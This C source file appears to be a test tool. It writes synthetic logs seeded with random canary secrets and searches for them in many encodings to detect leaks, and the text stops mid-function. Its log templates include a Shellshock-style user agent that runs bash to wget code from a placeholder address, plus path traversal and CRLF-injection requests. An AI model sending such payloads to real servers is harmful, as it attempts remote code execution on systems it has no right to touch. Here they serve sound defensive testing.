/*
 * canaries.c: logs full of marked secrets, and the search for them. tests/scenario/18_canaries.sh
 * compiles it.
 *
 *   canaries make DIR SECONDS
 *           logs into DIR, stamped from SECONDS (Unix) on; DIR/needles: what to search for
 *   canaries find NEEDLES FILE...
 *           where any of them stands, in whatever encoding; the last line sums up
 *   canaries bytes
 *           the bytes of `strace -xx` on standard input, to standard output
 *
 * A secret is a word, an address, an e-mail or a JWT of its own. A needle is a form of it: as the
 * log has it, plain, reversed, hexadecimal, decimal, base64 at each alignment, percent-encoded,
 * UTF-16, packed. Words are ten letters and more, so none stands anywhere by chance. Forms of an
 * address in four bytes or eight hex digits do, in megabytes of ciphertext; these are "weak" and
 * counted apart: a leak shows as hundreds of them, chance as one or two.
 */
#include <ctype.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static _Noreturn void die(const char *what)
{
	perror(what);
	exit(2);
}

static FILE *open_file(const char *directory, const char *name, const char *mode)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/%s", directory, name);
	FILE *file = fopen(path, mode);
	if (!file)
		die(path);
	return file;
}

/* ---- what is hidden where ---- */

enum file { WEB, PLAIN, JSON, W3C, FILES };
enum field {
	CLIENT,
	HOST,
	USER,
	TIME,
	REQUEST,
	STATUS,
	BYTES,
	REFERRER,
	AGENT,
	FORWARDED,
	COOKIE,
	EXTRA,
	LINE,
	FIELDS
};

/*
 * In the text, {w} is a word, {4} and {6} are addresses, {m} an e-mail, {j} a JWT; {w:pct} and the
 * like are other ways to write them. {L} stands for a long text. `gate`: what hides it is the gate
 * or the literal rule alone, so where k is 1 it may be shown.
 */
struct row {
	enum file file;
	enum field field;
	bool gate;
	int n;
	const char *text;
};

static const struct row rows[] = {
    /* clients */
    {PLAIN, CLIENT, false, 60, "{4}"},
    {PLAIN, CLIENT, false, 20, "{4}:40122"},
    {PLAIN, CLIENT, false, 30, "{6}"},
    {PLAIN, CLIENT, false, 10, "{6:up}"},
    {PLAIN, CLIENT, false, 10, "{6:full}"},
    {PLAIN, CLIENT, false, 10, "[{6}]"},
    {PLAIN, CLIENT, false, 10, "[{6}]:40122"},
    {PLAIN, CLIENT, false, 10, "{6}%eth0"},
    {PLAIN, CLIENT, false, 5, "[{6}%25eth0]:40122"},
    {PLAIN, CLIENT, false, 20, "::ffff:{4}"},
    {PLAIN, CLIENT, false, 10, "{4:map}"},
    {PLAIN, CLIENT, false, 10, "[::ffff:{4}]:40122"},
    {PLAIN, CLIENT, false, 5, "::{4}"},
    {PLAIN, CLIENT, false, 5, "64:ff9b::{4}"},
    {PLAIN, CLIENT, false, 5, "{4}/24"},
    {PLAIN, CLIENT, false, 5, "{4:dec}"},
    {PLAIN, CLIENT, false, 5, "0x{4:hex}"},
    {PLAIN, CLIENT, false, 20, "{w}.dsl.isp.example"},
    {PLAIN, CLIENT, false, 10, "ip-{4:dash}.pool.isp.example"},
    {PLAIN, CLIENT, false, 5, "{4:rev}.in-addr.arpa"},
    {PLAIN, CLIENT, false, 5, "x{4:hex}.cust.isp.example"},
    {PLAIN, CLIENT, false, 10, "{w}"},
    {PLAIN, CLIENT, false, 5, "unix:/run/{w}.sock"},
    {WEB, CLIENT, false, 10, "{4}"},
    {WEB, CLIENT, false, 10, "{6}"},
    {JSON, CLIENT, false, 10, "{4}"},
    {JSON, CLIENT, false, 5, "[{6}]:443"},
    {JSON, CLIENT, false, 5, "{w}"},
    {W3C, CLIENT, false, 10, "{4}"},
    {W3C, CLIENT, false, 5, "{6}"},
    /* X-Forwarded-For and what is taken for it */
    {WEB, FORWARDED, false, 15, "{4}"},
    {WEB, FORWARDED, false, 10, "{4}, {4}, {4}"},
    {WEB, FORWARDED, false, 5, "{4},{6},  {4}"},
    {WEB, FORWARDED, false, 5, "{6}"},
    {WEB, FORWARDED, false, 5, "\\x22[{6}]:4711\\x22, {4}:80"},
    {WEB, FORWARDED, false, 5, "unknown, {w}, {4}"},
    {WEB, FORWARDED, false, 5, "{w}"},
    {WEB, FORWARDED, false, 5, "for={4};proto=http;by={4}"},
    {WEB, FORWARDED, false, 5, "for=\\x22[{6}]:4711\\x22;host={w}"},
    {WEB, FORWARDED, false, 5, "{m}, {w:pct}"},
    {JSON, FORWARDED, false, 5, "{4}, {4}"},
    {JSON, FORWARDED, false, 5, "{6}, 203.0.113.1"},
    /* users */
    {PLAIN, USER, false, 20, "{w}"},
    {PLAIN, USER, false, 5, "{m}"},
    {PLAIN, USER, false, 5, "CORP\\x5C{w}"},
    {PLAIN, USER, false, 5, "{w:utf}"},
    {PLAIN, USER, false, 5, "{w} {w}"},
    {PLAIN, USER, false, 5, "{4}"},
    {WEB, USER, false, 10, "{w}"},
    {JSON, USER, false, 5, "{w}"},
    {JSON, USER, false, 5, "{w:u}"},
    {W3C, USER, false, 5, "CORP\\{w}"},
    /* names in paths */
    {PLAIN, REQUEST, true, 25, "GET /{w} HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /desk/{w}/inbox HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /{w}.{w}.pdf HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /{w:cap} HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /{w:pct} HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "GET /{w:part}/a HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /{w:pct2} HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /{w:split}/x HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /{w:utf} HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /{w:utfpct} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /{w}%ff%fe HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /{w}%2f{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /../../{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /a/{L}{w} HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "GET /a/b/c/d/e/f/g/h/i/j/k/l/m/{w} HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "GET //{w}//x HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "POST /login/{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /users/{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /~{w}/photos HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /@{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /crew/{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /page;jsessionid={w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page#{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET http://{w}:{w}@shop.example/page HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "CONNECT {w}.example:443 HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "GET /blog/{w:b64} HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "GET /wp-admin/{w}.php HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "GET /.git/{w} HTTP/1.1"},
    {W3C, REQUEST, true, 10, "GET /{w}"},
    {W3C, REQUEST, false, 5, "GET /page {w}={w}"},
    {JSON, REQUEST, true, 5, "GET\",\"uri\":\"/{w}"},
    {JSON, REQUEST, true, 5, "GET\",\"uri\":\"/{w:u}"},
    /* addresses, e-mails and tokens in paths */
    {PLAIN, REQUEST, false, 5, "GET /from/{4}/x HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /from/{4:pct} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /from/{6} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /from/[{6}]:80/ HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /from/ip-{4:dash}.html HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /from/{4:dec} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /from/{6:hex} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /from/{4:b64} HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /invite/{m} HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /invite/{m:pct} HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /t/{j} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /t;{j} HTTP/1.1"},
    /* queries */
    {PLAIN, REQUEST, false, 10, "GET /page?{w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /page?{w}=1 HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /page?page={w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page?pa%67e={w:pct}&sort={w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page?page[{w}]=1 HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page?page;{w}={w:pct2} HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /page?q={w}&name={w:utfpct} HTTP/1.1"},
    {PLAIN, REQUEST, false, 10, "GET /page?ip={4}&v6={6} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page?mail={m} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page?mail={m:pct}&token={j} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "POST /checkout/complete?total={w} HTTP/1.1"},
    {PLAIN, REQUEST, true, 10, "GET /page?utm_source={w}&utm_campaign={w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page?utm_term={w}&utm_content={w}&gclid={w} HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "GET /page?utm_source=news&utm_medium={m} HTTP/1.1"},
    {WEB, REQUEST, false, 10, "GET /?page={w}&{w}=page HTTP/1.1"},
    /* methods, protocols, what is no request */
    {PLAIN, REQUEST, false, 5, "{w} /page HTTP/1.1"},
    {PLAIN, REQUEST, false, 5, "{w:cap} /page HTTP/1.1"},
    {PLAIN, REQUEST, true, 5, "GET /page {w}"},
    {PLAIN, REQUEST, true, 5, "GET /page HTTP/{w}"},
    {PLAIN, REQUEST, false, 5, "{w} {w} {w} {w}"},
    {PLAIN, REQUEST, false, 10,
     "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03{w}.example\\x00\\x17"},
    {PLAIN, REQUEST, false, 10, "\x16\x03\x01\x02\x01\x03\x03{w}.example\x17\x80\xff"},
    {PLAIN, REQUEST, false, 5, "SSH-2.0-{w}"},
    {PLAIN, REQUEST, false, 5, "GET /page HTTP/1.1\\x0d\\x0aCookie: {w}"},
    {PLAIN, STATUS, false, 5, "{w}"},
    {PLAIN, BYTES, false, 5, "{w}"},
    {PLAIN, TIME, false, 5, "{w}"},
    {PLAIN, TIME, false, 5, "99/Foo/2020:{w}"},
    /* referrers */
    {PLAIN, REFERRER, false, 10, "https://{w}:{w}@site.example/"},
    {PLAIN, REFERRER, false, 10, "https://site.example/{w}/x"},
    {PLAIN, REFERRER, false, 10, "https://site.example/?q={w}&{w}"},
    {PLAIN, REFERRER, false, 5, "https://www.google.com/search?q={w}"},
    {PLAIN, REFERRER, false, 5, "https://site.example/#{w}"},
    {PLAIN, REFERRER, true, 15, "https://{w}.example/"},
    {PLAIN, REFERRER, true, 10, "https://{w}.tumblr.com/"},
    {PLAIN, REFERRER, true, 5, "https://{w:pct}.example/"},
    {PLAIN, REFERRER, false, 10, "https://{4:dash}.dynamic.isp.example/"},
    {PLAIN, REFERRER, false, 5, "https://host{4:hex}.isp.example/"},
    {PLAIN, REFERRER, false, 10, "http://{4}:8080/"},
    {PLAIN, REFERRER, false, 5, "http://{4:dec}/"},
    {PLAIN, REFERRER, false, 10, "http://[{6}]/"},
    {PLAIN, REFERRER, true, 5, "android-app://{w}/"},
    {PLAIN, REFERRER, false, 5, "mailto:{m}"},
    {PLAIN, REFERRER, true, 5, "{w}"},
    {PLAIN, REFERRER, false, 5, "{m}"},
    {PLAIN, REFERRER, false, 5, "javascript:{w}()"},
    {PLAIN, REFERRER, false, 5, "https://site.example/r?u=https%3A%2F%2F{w}.example&t={j}"},
    {W3C, REFERRER, false, 5, "https://site.example/{w}?{w}"},
    /* agents */
    {PLAIN, AGENT, false, 10, "{w}/1.0"},
    {PLAIN, AGENT, false, 10, "Mozilla/5.0 (X11; {w}; rv:128.0) Gecko/20100101 Firefox/128.0 {w}"},
    {PLAIN, AGENT, false, 10, "Mozilla/5.0 (compatible; {w}bot/2.1; +http://{w}.example/bot.html)"},
    {PLAIN, AGENT, false, 10, "curl/8.0 {m}"},
    {PLAIN, AGENT, false, 5, "scanner from {4}, {6}"},
    {PLAIN, AGENT, false, 5, "{w:utf} {w:pct} {w:b64}"},
    {PLAIN, AGENT, false, 5, "() {{ :;}}; /bin/bash -c 'wget {4}/{w}'"},
    {W3C, AGENT, false, 5, "Mozilla/5.0+({w})"},
    /* hosts, cookies, fields that nobody asked for */
    {WEB, HOST, true, 15, "{w}.example"},
    {WEB, HOST, false, 5, "{4}"},
    {WEB, HOST, false, 5, "[{6}]:443"},
    {WEB, HOST, true, 5, "{w}:{w}"},
    {W3C, HOST, true, 5, "{w}.example"},
    {WEB, COOKIE, false, 15, "sid={w}; {w}=1"},
    {WEB, COOKIE, false, 5, "sid={j}"},
    {WEB, COOKIE, false, 5, "mail={m:pct}; ip={4}"},
    {JSON, COOKIE, false, 5, "sid={w}"},
    {W3C, COOKIE, false, 5, "sid={w};+{w}"},
    {JSON, EXTRA, false, 5, "{w}"},
    {JSON, EXTRA, false, 5, "Bearer {j}"},
    {JSON, EXTRA, false, 5, "Basic {w:b64}"},
    {PLAIN, EXTRA, false, 10, " \"{w}\" {4}"},
    /* lines that are none */
    {PLAIN, LINE, false, 10, "{w} {4} {m} {w}"},
    {PLAIN, LINE, false, 5, "{4} - {w} [{w}"},
    {PLAIN, LINE, false, 5, "{4}"},
    {PLAIN, LINE, false, 5, "\x01\x02{w}\x7f\xff{4}\r"},
    {PLAIN, LINE, false, 5, "{4} - {w} {L}{L}{L}{L}{L}{L}{L}{L}{L}{L}{w}"},
    {PLAIN, LINE, false, 5,
     "{w}{L}{L}{L}{L}{L}{L}{L}{L}{L}{L}{w}{L}{L}{L}{L}{L}{L}{L}{L}{L}{L}{w}"},
    {PLAIN, LINE, false, 5, "Nov 24 03:00:00 {w} {w}[123]: {4} started"},
    {JSON, LINE, false, 5, "{{\"ts\":\"{w}\",\"addr\":\"{4}\"}}"},
    {JSON, LINE, false, 5, "{{\"addr\":\"{4}\",\"uri\":\"/{w}"},
    {W3C, LINE, false, 5, "#Remark: {w} {4}"},
    {W3C, LINE, false, 5, "#Software: {w}"},
    {W3C, LINE, false, 5, "{w} {4}"},
    {WEB, LINE, false, 5, "{w} {w}"},
};
enum { ROWS = sizeof(rows) / sizeof(*rows) };

/* ---- chance, the same each time ---- */

static uint32_t draw(uint32_t below)
{
	static uint64_t state = 0x9e3779b97f4a7c15; /* xorshift64* */
	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return (uint32_t)((state * 0x2545f4914f6cdd1d) >> 33) % below;
}

/* Ten to twelve letters that can be spoken and mean nothing. */
static void draw_word(char *out)
{
	static const char rare[] = "qxzjvkw", consonants[] = "bdfgklmnprstvz", vowels[] = "aeiou";
	size_t n = 0, pairs = 5 + draw(2);
	for (size_t i = 0; i < pairs; i++) {
		out[n++] = i % 2 ? consonants[draw(14)] : rare[draw(7)];
		out[n++] = vowels[draw(5)];
	}
	out[n] = '\0';
}

/* ---- needles: one per line, "id row gate weak exact hex" ---- */

struct maker {
	FILE *needles, *logs[FILES];
	unsigned id, row;
	int64_t time;
	unsigned plain; /* clients that are no canaries of their own */
};

enum { ANY_CASE, EXACT, WEAK };

static void needle(const struct maker *maker, int kind, const void *bytes, size_t n)
{
	const unsigned char *p = bytes;
	fprintf(maker->needles, "%u %u %d %d %d ", maker->id, maker->row, rows[maker->row].gate,
		kind == WEAK, kind != ANY_CASE);
	for (size_t i = 0; i < n; i++)
		fprintf(maker->needles, "%02x", p[i]);
	fputc('\n', maker->needles);
}

static size_t base64(const unsigned char *p, size_t n, char *out)
{
	static const char digits[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t at = 0;
	for (size_t bit = 0; bit + 6 <= 8 * n; bit += 6) {
		unsigned two = (unsigned)p[bit / 8] << 8 | (bit / 8 + 1 < n ? p[bit / 8 + 1] : 0);
		out[at++] = digits[two >> (10 - bit % 8) & 63];
	}
	out[at] = '\0';
	return at;
}

/* Whole characters of the text in base64, whatever stands before it. */
static void needles_base64(const struct maker *maker, const void *bytes, size_t n)
{
	static const size_t skip[3] = {0, 2, 3};
	unsigned char shifted[600] = {0};
	char out[900];
	for (size_t before = 0; before < 3; before++) {
		memcpy(shifted + before, bytes, n);
		size_t length = base64(shifted, before + n, out);
		if (length - skip[before] >= 6)
			needle(maker, EXACT, out + skip[before], length - skip[before]);
	}
}

static void to_hex(const void *bytes, size_t n, const char *form, char *out)
{
	const unsigned char *p = bytes;
	*out = '\0';
	for (size_t i = 0; i < n; i++)
		out += sprintf(out, form[0] == '%' ? "%%%02X" : "%02x", p[i]);
}

/* A text, and what it may be turned into. */
static void needles_text(const struct maker *maker, const char *text)
{
	char out[2000];
	size_t n = strlen(text);
	needle(maker, ANY_CASE, text, n);
	for (size_t i = 0; i < n; i++)
		out[i] = text[n - 1 - i];
	needle(maker, ANY_CASE, out, n);
	to_hex(text, n, "", out);
	needle(maker, ANY_CASE, out, 2 * n);
	to_hex(text, n, "%", out);
	needle(maker, ANY_CASE, out, 3 * n);
	needles_base64(maker, text, n);
	for (size_t i = 0; i < n; i++) {
		out[2 * i] = text[i];
		out[2 * i + 1] = '\0';
	}
	needle(maker, ANY_CASE, out, 2 * n);
}

static void needles_v4(const struct maker *maker, const unsigned char a[4])
{
	char text[64];
	unsigned char mapped[6] = {0xff, 0xff, a[0], a[1], a[2], a[3]};
	unsigned char turned[4] = {a[3], a[2], a[1], a[0]};
	static const char *const forms[] = {"%u.%u.%u.%u", "%u-%u-%u-%u", "%u_%u_%u_%u",
					    "%u,%u,%u,%u"};
	for (size_t i = 0; i < 4; i++) {
		snprintf(text, sizeof(text), forms[i], a[0], a[1], a[2], a[3]);
		i == 0 ? needles_text(maker, text) : needle(maker, ANY_CASE, text, strlen(text));
		snprintf(text, sizeof(text), forms[i], a[3], a[2], a[1], a[0]);
		needle(maker, ANY_CASE, text, strlen(text));
	}
	snprintf(text, sizeof(text), "%u.%u.%u.", a[0], a[1], a[2]); /* its network */
	needle(maker, ANY_CASE, text, strlen(text));
	snprintf(text, sizeof(text), "%02x%02x:%02x%02x", a[0], a[1], a[2], a[3]);
	needle(maker, ANY_CASE, text, strlen(text));
	snprintf(text, sizeof(text), "%02x.%02x.%02x.%02x", a[0], a[1], a[2], a[3]);
	needle(maker, ANY_CASE, text, strlen(text));
	for (int i = 0; i < 2; i++) {
		const unsigned char *p = i ? turned : a;
		snprintf(text, sizeof(text), "%u",
			 (unsigned)p[0] << 24 | (unsigned)p[1] << 16 | (unsigned)p[2] << 8 | p[3]);
		if (strlen(text) == 10)
			needle(maker, ANY_CASE, text, 10);
		needle(maker, WEAK, p, 4);
		to_hex(p, 4, "", text);
		needle(maker, WEAK, text, 8);
	}
	needle(maker, EXACT, mapped, 6);
	to_hex(mapped, 6, "", text);
	needle(maker, ANY_CASE, text, 12);
	base64(a, 4, text);
	strcat(text, "=="); /* without it, it is weak */
	needle(maker, EXACT, text, strlen(text) - 1);
}

static void text_v6(const unsigned char a[16], char *out)
{
	for (size_t i = 0; i < 16; i += 2)
		out += sprintf(out, "%s%x", i ? ":" : "", (unsigned)a[i] << 8 | a[i + 1]);
}

static void needles_v6(const struct maker *maker, const unsigned char a[16])
{
	char text[100], *at = text;
	text_v6(a, text);
	needles_text(maker, text);
	needle(maker, ANY_CASE, text, 19); /* the first four groups: its /64 */
	needle(maker, ANY_CASE, text, 14); /* /48 */
	for (char *p = text; *p; p++)
		*p = *p == ':' ? '-' : *p;
	needle(maker, ANY_CASE, text, strlen(text));
	to_hex(a, 8, "", text);
	needle(maker, ANY_CASE, text, 16);
	to_hex(a + 8, 8, "", text);
	needle(maker, ANY_CASE, text, 16);
	for (size_t i = 16; i-- > 8;)
		at += sprintf(at, "%x.%x.", a[i] & 15, a[i] >> 4); /* ip6.arpa */
	needle(maker, ANY_CASE, text, strlen(text));
	needle(maker, EXACT, a, 8);
	needle(maker, EXACT, a + 8, 8);
	needles_base64(maker, a, 16);
}

/* ---- secrets, written in a form ---- */

static void put_word(struct maker *maker, const char *form, char *out)
{
	char word[32];
	draw_word(word);
	size_t n = strlen(word);
	needles_text(maker, word);
	strcpy(out, word);
	if (strcmp(form, "cap") == 0) {
		for (size_t i = 0; i < n; i += 1 + draw(3))
			out[i] = (char)toupper((unsigned char)out[i]);
		needles_base64(maker, out, n);
	} else if (strcmp(form, "pct") == 0) {
		to_hex(word, n, "%", out);
	} else if (strcmp(form, "part") == 0) {
		sprintf(out, "%.3s%%%02x%s", word, word[3], word + 4);
		needle(maker, ANY_CASE, out, strlen(out));
	} else if (strcmp(form, "pct2") == 0) {
		char once[100], *at = out;
		to_hex(word, n, "%", once);
		for (const char *p = once; *p; p++)
			at += sprintf(at, *p == '%' ? "%%25" : "%c", *p);
		needle(maker, ANY_CASE, out, strlen(out));
	} else if (strcmp(form, "split") == 0) {
		char other[32]; /* both halves are secrets of their own */
		draw_word(other);
		needles_text(maker, other);
		sprintf(out, "%s;%s", word, other);
	} else if (strcmp(form, "utf") == 0) {
		sprintf(out, "\xc3\xa9%s\xc3\xbc", word);
	} else if (strcmp(form, "utfpct") == 0) {
		sprintf(out, "%%C3%%A9%s%%C3%%BC", word);
	} else if (strcmp(form, "u") == 0) {
		char *at = out;
		for (size_t i = 0; i < n; i++)
			at += sprintf(at, "\\u%04x", word[i]);
		needle(maker, ANY_CASE, out, strlen(out));
	} else if (strcmp(form, "b64") == 0) {
		base64((const unsigned char *)word, n / 3 * 3, out);
	}
}

static void put_v4(struct maker *maker, const char *form, char *out)
{
	unsigned char a[4], mapped[5];
	do
		a[0] = (unsigned char)(110 + draw(60));
	while (a[0] == 127 || a[0] == 169);
	for (size_t i = 1; i < 4; i++)
		a[i] = (unsigned char)(100 + draw(150));
	needles_v4(maker, a);
	sprintf(out, "%u.%u.%u.%u", a[0], a[1], a[2], a[3]);
	if (strcmp(form, "dash") == 0) {
		sprintf(out, "%u-%u-%u-%u", a[0], a[1], a[2], a[3]);
	} else if (strcmp(form, "rev") == 0) {
		sprintf(out, "%u.%u.%u.%u", a[3], a[2], a[1], a[0]);
	} else if (strcmp(form, "hex") == 0) {
		sprintf(out, "%02x%02x%02x%02x", a[0], a[1], a[2], a[3]);
	} else if (strcmp(form, "map") == 0) {
		sprintf(out, "::ffff:%02x%02x:%02x%02x", a[0], a[1], a[2], a[3]);
	} else if (strcmp(form, "dec") == 0) {
		sprintf(out, "%u",
			(unsigned)a[0] << 24 | (unsigned)a[1] << 16 | (unsigned)a[2] << 8 | a[3]);
	} else if (strcmp(form, "pct") == 0) {
		memcpy(mapped, out, 5);
		sprintf(out, "%%%02X%%%02X%%%02X", mapped[0], mapped[1], mapped[2]);
		sprintf(out + 9, ".%u%%2E%u.%u", a[1], a[2], a[3]);
		needle(maker, ANY_CASE, out, strlen(out));
	} else if (strcmp(form, "b64") == 0) {
		char text[32];
		strcpy(text, out);
		base64((const unsigned char *)text, strlen(text) / 3 * 3, out);
	}
}

static void put_v6(struct maker *maker, const char *form, char *out)
{
	unsigned char a[16] = {0x2a, 0x0d};
	for (size_t i = 2; i < 16; i++) /* no group is short */
		a[i] = (unsigned char)(i % 2 ? draw(256) : 16 + draw(240));
	a[0] = 0x2a;
	a[1] = (unsigned char)(0x10 + draw(0xe0));
	needles_v6(maker, a);
	text_v6(a, out);
	if (strcmp(form, "up") == 0)
		for (char *p = out; *p; p++)
			*p = (char)toupper((unsigned char)*p);
	if (strcmp(form, "hex") == 0)
		to_hex(a, 16, "", out);
}

static void put_mail(struct maker *maker, const char *form, char *out)
{
	char local[32], host[32];
	draw_word(local);
	draw_word(host);
	needles_text(maker, local);
	needles_text(maker, host);
	sprintf(out, "%s.x%s%s.example", local, strcmp(form, "pct") == 0 ? "%40" : "@", host);
	needles_base64(maker, out, strlen(out));
}

static void put_jwt(struct maker *maker, char *out)
{
	char word[32], claims[100], body[200], key[41] = "";
	draw_word(word);
	needles_text(maker, word);
	sprintf(claims, "{\"sub\":\"%s\",\"iat\":17}", word);
	base64((const unsigned char *)claims, strlen(claims) / 3 * 3, body);
	for (size_t i = 0; i < 40; i++)
		key[i] = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789-_"[draw(58)];
	needle(maker, EXACT, body + 12, strlen(body) - 12);
	needle(maker, EXACT, key, 40);
	sprintf(out, "eyJhbGciOiJIUzI1NiJ9.%s.%s", body, key);
}

/* The text of a row with a new secret for each {…}. */
static void fill(struct maker *maker, const char *text, char *out)
{
	char form[16], secret[600];
	for (; *text; text++) {
		if (*text != '{' || text[1] == '{') {
			text += *text == '{' || (*text == '}' && text[1] == '}');
			*out++ = *text;
			continue;
		}
		char kind = text[1];
		const char *end = strchr(text, '}');
		snprintf(form, sizeof(form), "%.*s", text[2] == ':' ? (int)(end - text - 3) : 0,
			 text + 3);
		maker->id += kind != 'L';
		if (kind == 'w')
			put_word(maker, form, secret);
		else if (kind == '4')
			put_v4(maker, form, secret);
		else if (kind == '6')
			put_v6(maker, form, secret);
		else if (kind == 'm')
			put_mail(maker, form, secret);
		else if (kind == 'j')
			put_jwt(maker, secret);
		else
			memset(secret, 'l', 500), secret[500] = '\0';
		if (kind != 'L')
			needle(maker, strlen(secret) < 10 ? WEAK : EXACT, secret, strlen(secret));
		out = stpcpy(out, secret);
		text = end;
	}
	*out = '\0';
}

/* ---- lines ---- */

static const char *const names[FIELDS] = {"addr",  "host", "user", "ts",  "method", "status",
					  "bytes", "ref",  "ua",   "xff", "cookie", "note"};

static void stamp(int64_t time, const char *form, char *out, size_t size)
{
	time_t seconds = (time_t)time;
	struct tm tm;
	gmtime_r(&seconds, &tm);
	strftime(out, size, form, &tm);
}

static void put_json(FILE *log, const char *const *f)
{
	fputc('{', log);
	for (size_t i = 0; i < EXTRA; i++)
		if (i != REQUEST)
			fprintf(log, "\"%s\":\"%s\",", names[i], f[i]);
	fprintf(log, "\"authorization\":\"%s\",\"nested\":{\"x\":[\"%s\"]},", f[EXTRA], f[EXTRA]);
	if (strstr(f[REQUEST], "uri"))
		fprintf(log, "\"method\":\"%s\"}\n", f[REQUEST]);
	else
		fprintf(log, "\"method\":\"GET\",\"uri\":\"/page\"}\n");
}

static void put_line(struct maker *maker, enum file file, enum field field, const char *text)
{
	static const char *const forms[FILES] = {"%d/%b/%Y:%H:%M:%S +0000",
						 "%d/%b/%Y:%H:%M:%S +0000", "%Y-%m-%dT%H:%M:%SZ",
						 "%Y-%m-%d %H:%M:%S"};
	char client[32], time[64];
	const char *f[FIELDS] = {
	    client,
	    "shop.example",
	    "-",
	    time,
	    "GET /page HTTP/1.1",
	    "200",
	    "10",
	    "-",
	    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	    "-",
	    "-",
	    ""};
	FILE *log = maker->logs[file];
	sprintf(client, "198.51.100.%u", 101 + maker->plain++ % 12);
	stamp(maker->time, forms[file], time, sizeof(time));
	maker->time += 97;
	if (file == WEB && field != CLIENT && field != COOKIE) /* a proxy that is believed */
		strcpy(client, "10.0.0.1");
	if (file == WEB && field != FORWARDED && field != COOKIE && field != CLIENT)
		f[FORWARDED] = "198.51.100.77";
	if (file == W3C) {
		f[REQUEST] = "GET /page";
		f[AGENT] = "Mozilla/5.0+(X11)";
	}
	f[field] = text;
	if (field == LINE)
		fprintf(log, "%s\n", text);
	else if (file == PLAIN)
		fprintf(log, "%s - %s [%s] \"%s\" %s %s \"%s\" \"%s\"%s\n", f[CLIENT], f[USER],
			f[TIME], f[REQUEST], f[STATUS], f[BYTES], f[REFERRER], f[AGENT], f[EXTRA]);
	else if (file == WEB)
		fprintf(log, "%s %s - %s [%s] \"%s\" %s %s \"%s\" \"%s\" \"%s\" \"%s\"\n", f[HOST],
			f[CLIENT], f[USER], f[TIME], f[REQUEST], f[STATUS], f[BYTES], f[REFERRER],
			f[AGENT], f[FORWARDED], f[COOKIE]);
	else if (file == JSON)
		put_json(log, f);
	else
		fprintf(log, "%s %s %s %s %s %s %s %s %s %s %s\n", f[TIME], f[CLIENT], f[USER],
			f[HOST], f[REQUEST], strchr(f[REQUEST] + 4, ' ') ? "" : "-", f[STATUS],
			f[BYTES], f[AGENT], f[COOKIE], f[REFERRER]);
}

static int make(const char *directory, const char *seconds)
{
	static const char *const logs[FILES] = {"web.log", "plain.log", "app.json", "iis.log"};
	struct maker maker = {.needles = open_file(directory, "needles", "w"),
			      .time = strtoll(seconds, NULL, 10)};
	static char text[20000];
	for (size_t i = 0; i < FILES; i++)
		maker.logs[i] = open_file(directory, logs[i], "w");
	fputs("#Version: 1.0\n#Fields: date time c-ip cs-username cs-host cs-method cs-uri-stem "
	      "cs-uri-query sc-status "
	      "sc-bytes cs(User-Agent) cs(Cookie) cs(Referer)\n",
	      maker.logs[W3C]);
	/* Enough of the ordinary that every log is known for what it is, and that something is
	 * named. */
	for (unsigned i = 0; i < 4 * 24; i++)
